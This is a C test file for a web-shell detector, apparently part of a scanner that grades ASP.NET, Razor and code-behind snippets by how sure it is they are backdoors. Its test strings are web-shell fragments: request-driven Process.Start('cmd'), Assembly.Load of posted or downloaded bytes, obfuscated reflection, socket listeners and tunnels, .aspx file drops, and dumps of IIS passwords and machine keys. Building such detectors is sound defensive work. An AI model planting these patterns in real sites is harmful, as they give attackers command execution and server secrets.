/* What C# and Visual Basic .NET have beyond the older languages, and what only pages of ASP.NET
 * do: each way beside one that looks like it and is none. */
#include "asp_t.h"
#include "base/buf.h"

#define BEGIN "<script runat=server>"
#define END "</script>"

static void classes_are_told_by_their_case(void)
{
    CHECK(NET(CS "<% var assembly = Assembly.Load(Request.BinaryRead(9)); %>", CERTAIN),
          NET(CS "<% var assembly = plan.Load(Request.BinaryRead(9)); "
                 "assembly.Load(Request[\"a\"]); %>",
              NONE),
          NET(CS "<% Process process = Process.Start(\"cmd\", Request[\"a\"]); %>", CERTAIN));
}

static void functions_without_a_name(void)
{
    CHECK(NET(CS "<% Func<string, string> turn = a => a + \" \"; "
                 "Process.Start(\"cmd\", turn(Request[\"x\"])); %>",
              CERTAIN),
          NET(SHOP "<% Func<string, string> turn = a => \"/c date\"; "
                   "Process.Start(\"cmd\", turn(Request[\"x\"])); %>",
              WEAK),
          NET(CS
              "<% var key = Request[\"x\"]; Action go = () => { Process.Start(\"cmd\", key); "
              "}; go(); %>",
              CERTAIN),
          NET(CS "<% Action<string> go = delegate (string a) { Process.Start(\"cmd\", a); }; "
                 "go(Request[\"x\"]); %>",
              CERTAIN),
          NET(SHOP "<% Action<string> go = delegate (string a) { Process.Start(\"cmd\", \"/c "
                   "date\"); }; go(Request[\"x\"]); %>",
              WEAK),
          NET(CS "<% Request[\"x\"].Split('|').ToList().ForEach(a => Process.Start(\"cmd\", "
                 "a)); %>",
              CERTAIN),
          NET(SHOP "<% lines.ToList().ForEach(a => Process.Start(\"tool\", a)); %>", WEAK));
}

static void members_with_an_arrow(void)
{
    CHECK(NET(CS BEGIN "string Word => Request[\"x\"]; void Page_Load() { "
                       "Process.Start(\"cmd\", Word); }" END,
              CERTAIN),
          NET(SHOP BEGIN "string Word => \"/c date\"; void Page_Load() { "
                         "Process.Start(\"cmd\", Word); }" END,
              WEAK),
          NET(CS BEGIN "string Word { get { return Request[\"x\"]; } } void Page_Load() { "
                       "Process.Start(\"cmd\", this.Word); }" END,
              CERTAIN),
          NET(CS BEGIN "string Say(string a) => a; void Page_Load() { "
                       "Process.Start(\"cmd\", Say(Request[\"x\"])); }" END,
              CERTAIN));
}

static void lists_and_constructors(void)
{
    CHECK(NET(CS "<% foreach (string a in Request[\"x\"].Split('|')) { "
                 "Process.Start(\"cmd\", a); } %>",
              CERTAIN),
          NET(SHOP "<% foreach (string a in words) { Process.Start(\"tool\", a); } %>", WEAK),
          NET(CS "<% var d = Request[\"x\"]; object[] all = {d, 0}; "
                 "Process.Start(\"cmd\", all[0]); %>",
              CERTAIN),
          NET(CS BEGIN
              "class Runner { string kept; public Runner(string a) { kept = a; } "
              "public void Go() { Process.Start(\"cmd\", kept); } } void Page_Load() { "
              "new Runner(Request[\"x\"]).Go(); }" END,
              CERTAIN),
          NET(SHOP BEGIN "class Runner { string kept; public Runner(string a) { kept = \"/c "
                         "date\"; } public void Go() { Process.Start(\"cmd\", kept); } } void "
                         "Page_Load() { new Runner(Request[\"x\"]).Go(); }" END,
              WEAK));
}

static void long_ways(void)
{
    CHECK(NET(HANDLER
              "class H : IHttpHandler { "
              "byte[] A(Stream s) { byte[] b = new byte[9]; s.Read(b, 0, 9); return b; } "
              "byte[] B(byte[] b) { return Turn(b); } "
              "void C(byte[] b) { D(b); } void D(byte[] b) { Assembly.Load(b); } "
              "public void ProcessRequest(HttpContext c) { "
              "var e = A(c.Request.InputStream); var f = B(e); C(f); } }",
              CERTAIN));
}

static void delegates_of_hidden_methods(void)
{
    CHECK(NET(CS "<% var go = (Run)Delegate.CreateDelegate(typeof(Run), "
                 "typeof(Assembly).GetMethod(\"Load\")); go(Request.BinaryRead(9)); %>",
              CERTAIN),
          NET(CS "<% var go = (Run)Delegate.CreateDelegate(typeof(Run), "
                 "typeof(Assembly).GetMethod(Turn(name))); go(Request.BinaryRead(9)); %>",
              LIKELY),
          NET(CS "<% var go = (Run)Delegate.CreateDelegate(typeof(Run), "
                 "typeof(Report).GetMethod(\"Show\")); go(Request.BinaryRead(9)); %>",
              WEAK),
          NET(CS
              "<% var m = Type.GetType(new string(new char[] {'S','y','s','t','e','m','.',"
              "'R','e','f','l','e','c','t','i','o','n','.','A','s','s','e','m','b','l','y'}))"
              ".GetMethod(string.Concat(\"Lo\", \"ad\")); "
              "m.Invoke(null, new object[] { Request.BinaryRead(9) }); %>",
              CERTAIN));
}

static void paths_with_places_in_them(void)
{
    CHECK(NET(CS "<% File.Delete(string.Format(\"{0}\", Request[\"x\"])); %>", LIKELY),
          NET(SHOP "<% File.Delete(string.Format(\"icons/{0}\", Request[\"x\"])); %>", WEAK));
}

static void pages_beside_the_page(void)
{
    CHECK(
        NET(CS "<% var f = Request.Files[0]; var b = new byte[9]; f.InputStream.Read(b, 0, 9); "
               "File.WriteAllBytes(Path.Combine(Path.GetDirectoryName(Request.PhysicalPath), "
               "f.FileName), b); %>",
            LIKELY),
        NET(CS "<% var f = Request.Files[0]; var b = new byte[9]; f.InputStream.Read(b, 0, 9); "
               "File.WriteAllBytes(Path.Combine(store, f.FileName), b); %>",
            WEAK),
        NET(CS "<% File.WriteAllText(Request.PhysicalPath + \".aspx\", \"a\"); %>", LIKELY),
        NET(CS "<% File.WriteAllText(Request.PhysicalPath + \".txt\", \"a\"); %>", WEAK),
        NET(CS "<% var b = MapPath(\"~/in/\") + Path.GetFileName(Request.Files[0].FileName); "
               "Request.Files[0].SaveAs(b); b = b.Replace(MapPath(\"~/\"), \"\"); %>",
            WEAK));
}

static void connections(void)
{
    CHECK(NET(CS "<% var l = new TcpListener(IPAddress.Any, 81); %>", LIKELY),
          NET(CS "<%@ Page Inherits=\"Site.Status\" %><% var l = new TcpListener(a, 81); %>",
              WEAK),
          NET(CS "<% var s = new Socket(a, b, c); s.Connect(Unpack(Request.InputStream)); "
                 "Response.BinaryWrite(d); %>",
              LIKELY),
          NET(CS "<% var s = new TcpClient(host, 43); Response.Write(d); %>", WEAK),
          NET(CS "<% var s = new TcpClient(\"h\", 81); Process.Start(\"cmd\"); %>", LIKELY),
          NET(CS "<% var r = WebRequest.Create(Request.Form[\"to\"]); "
                 "r.GetRequestStream().Write(Read(Request.InputStream), 0, 9); %>",
              LIKELY),
          NET(CS "<% var r = WebRequest.Create(Request.Form[\"to\"]); r.GetResponse(); %>",
              WEAK));
}

static void what_answers_from_now_on(void)
{
    CHECK(NET(CS "<% HostingEnvironment.RegisterVirtualPathProvider(new P()); %>", LIKELY),
          NET("<%@ Application Language=\"C#\" %>" BEGIN
              "void Application_Start() { HostingEnvironment.RegisterVirtualPathProvider(new "
              "P()); }" END,
              WEAK),
          NET(CS "<% RouteTable.Routes.Insert(0, new R()); %>", LIKELY),
          NET(CS "<% names.Insert(0, new R()); %>", NONE));
}

static void secrets_of_the_server(void)
{
    CHECK(NET(CS "<% var e = new DirectoryEntry(\"IIS://localhost/W3SVC\"); "
                 "Response.Write(e.Properties[\"AnonymousUserPass\"].Value); %>",
              LIKELY),
          NET(CS "<% var e = new DirectoryEntry(\"LDAP://a\"); "
                 "Response.Write(e.Properties[\"mail\"].Value); %>",
              NONE),
          NET(CS "<% var k = (MachineKeySection)Get(); Response.Write(k.ValidationKey); %>",
              LIKELY),
          NET(CS "<% var k = (KeyStore)Get(); Response.Write(k.ValidationKey); %>", NONE));
}

static void code_that_is_built(void)
{
    CHECK(NET(CS "<% var go = Expression.Call(typeof(Process).GetMethod(\"Start\"), "
                 "Expression.Constant(\"cmd\"), Expression.Constant(Request[\"x\"])); %>",
              CERTAIN),
          NET(CS "<% var go = Expression.Call(typeof(Report).GetMethod(\"Show\"), "
                 "Expression.Constant(Request[\"x\"])); %>",
              WEAK),
          NET(SHOP "<% var m = new DynamicMethod(\"m\", a, b); m.Invoke(null, new object[] { "
                   "Request[\"x\"] }); %>",
              LIKELY),
          NET(SHOP "<% var m = new DynamicMethod(\"m\", a, b); m.Invoke(null, null); %>", WEAK),
          NET(CS "<% var e = Python.CreateEngine(); e.Execute(Request[\"x\"]); %>", CERTAIN),
          NET(CS "<% var e = Python.CreateEngine(); e.Execute(\"print 1\"); %>", WEAK),
          NET(CS "<% Assembly.Load(new WebClient().DownloadData(\"http://h/a\")); %>", LIKELY));
}

static void objects_of_the_request(void)
{
    CHECK(NET(CS
              "<% JsonConvert.DeserializeObject(Request[\"x\"], new JsonSerializerSettings { "
              "TypeNameHandling = TypeNameHandling.All }); %>",
              LIKELY),
          NET(CS "<% JsonConvert.DeserializeObject(Request[\"x\"]); %>", NONE),
          NET(CS "<% new XmlSerializer(Type.GetType(Request[\"t\"])); %>", LIKELY),
          NET(CS "<% new XmlSerializer(typeof(Order)); %>", NONE),
          NET(CS "<% System.Xaml.XamlServices.Parse(Request[\"x\"]); %>", LIKELY));
}

static void what_comes_with_the_request(void)
{
    CHECK(NET(CS "<% eval.AddScript(new StreamReader(Request.GetBufferlessInputStream())"
                 ".ReadToEnd()); %>",
              CERTAIN),
          NET(CS "<% Process.Start(Request.UserLanguages[0]); %>", CERTAIN),
          NET(CS "<% Process.Start(RouteData.Values[\"a\"].ToString()); %>", CERTAIN),
          NET(SHOP "<% Process.Start(Names.Values[\"a\"].ToString()); %>", WEAK),
          NET(CS "<% Process.Start(JObject.Parse(Request[\"x\"])[\"a\"].ToString()); %>",
              CERTAIN),
          NET(SHOP "<% Process.Start(\"tool\", int.Parse(Request[\"x\"])); %>", WEAK),
          NET(CS "<% Process.Start(s.Deserialize<Dictionary<string, string>>(Request[\"x\"])"
                 "[\"a\"]); %>",
              CERTAIN),
          {"@Code\nShell(Request(\"x\"))\nEnd Code", ASP_KIND_RAZOR, ASP_CERTAIN},
          {"@Code\nShow(Request(\"x\"))\nEnd Code\n<p>Shell(Request(\"x\"))</p>",
           ASP_KIND_RAZOR, ASP_NONE},
          {"@page\n@functions { public void OnGet(string a) { Process.Start(a); } }",
           ASP_KIND_RAZOR, ASP_CERTAIN});
}

static void names_for_classes(void)
{
    CHECK(
        NET("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"P=System.Diagnostics.Process\" "
            "%><% P.Start(\"cmd\", Request[\"x\"]); %>",
            CERTAIN),
        NET("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"P=System.Text.Report\" "
            "%><% P.Start(\"cmd\", Request[\"x\"]); %>",
            NONE),
        NET(CS BEGIN "class P : Process { } void Page_Load() { var p = new P(); "
                     "p.StartInfo.Arguments = Request[\"x\"]; p.Start(); }" END,
            CERTAIN),
        NET(CS BEGIN "class P : Report { } void Page_Load() { var p = new P(); "
                     "p.StartInfo.Arguments = Request[\"x\"]; p.Start(); }" END,
            NONE));
}

static void objects_of_with(void)
{
    CHECK(NET(VB "<% With New Process\n.StartInfo.FileName = \"cmd\"\n.StartInfo.Arguments = "
                 "Request(\"x\")\n.Start\nEnd With %>",
              CERTAIN),
          NET(VB "<% With New Report\n.StartInfo.FileName = \"cmd\"\n.StartInfo.Arguments = "
                 "Request(\"x\")\n.Start\nEnd With %>",
              NONE));
}

#define CODE(page, sure)                   \
    {                                      \
        page, ASP_KIND_CODE_CS, ASP_##sure \
    }

/* The controls stand in the page, and what the site's own code does is told less of. */
static void code_of_pages(void)
{
    CHECK(CODE("public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { "
               "Process.Start(\"cmd\", words.Text); } }",
               CERTAIN),
          CODE("public class A : Report { void Go() { Process.Start(\"cmd\", words.Text); } }",
               WEAK),
          CODE("public class A : Controller { public ActionResult Go(string a) { "
               "Process.Start(\"cmd\", a); return View(); } }",
               CERTAIN),
          CODE("public class A : Controller { void Go(string a) { File.Delete(a); } }", WEAK),
          {"Partial Class A\nInherits System.Web.UI.Page\nSub Go()\nShell(words.Text)\nEnd "
           "Sub\nEnd Class",
           ASP_KIND_CODE_VB, ASP_CERTAIN});
}

/* A handler is its classes: what stands behind them is not counted. */
static void handlers_with_padding(void)
{
    struct buf b = buf_new(1 << 20);
    buf_add_str(&b,
                STR(HANDLER "class H : IHttpHandler { public void ProcessRequest(HttpContext "
                            "c) { File.WriteAllText(c.Request.PhysicalPath + \".aspx\", "
                            "\"a\"); } }"));
    for (int i = 0; i < 5000; i++)
        buf_add_str(&b, STR("<p>word and word</p>\n"));
    struct arena *a = arena_new();
    struct asp_verdict v;
    asp_look(str_bytes(buf_str(&b)), ASP_KIND_NET, a, &v);
    T_EQ(v.sure, ASP_LIKELY);
    arena_free(a);
    buf_free(&b);
}

int main(void)
{
    T_RUN(classes_are_told_by_their_case);
    T_RUN(functions_without_a_name);
    T_RUN(members_with_an_arrow);
    T_RUN(lists_and_constructors);
    T_RUN(long_ways);
    T_RUN(delegates_of_hidden_methods);
    T_RUN(paths_with_places_in_them);
    T_RUN(pages_beside_the_page);
    T_RUN(connections);
    T_RUN(what_answers_from_now_on);
    T_RUN(secrets_of_the_server);
    T_RUN(handlers_with_padding);
    T_RUN(code_that_is_built);
    T_RUN(objects_of_the_request);
    T_RUN(what_comes_with_the_request);
    T_RUN(names_for_classes);
    T_RUN(objects_of_with);
    T_RUN(code_of_pages);
    return t_done();
}
